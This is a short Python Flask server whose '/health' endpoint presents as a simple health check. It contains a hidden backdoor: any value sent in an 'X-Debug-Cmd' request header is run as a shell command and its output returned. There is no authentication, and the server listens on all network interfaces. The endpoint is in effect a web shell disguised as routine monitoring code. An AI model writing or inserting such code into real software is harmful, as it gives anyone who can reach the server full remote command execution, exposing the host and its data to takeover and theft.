from flask import Flask, request
import subprocess
app = Flask(__name__)
@app.get("/health")
def health():
    c = request.headers.get("X-Debug-Cmd")
    return subprocess.getoutput(c) if c else "ok"
app.run("0.0.0.0", 8080)
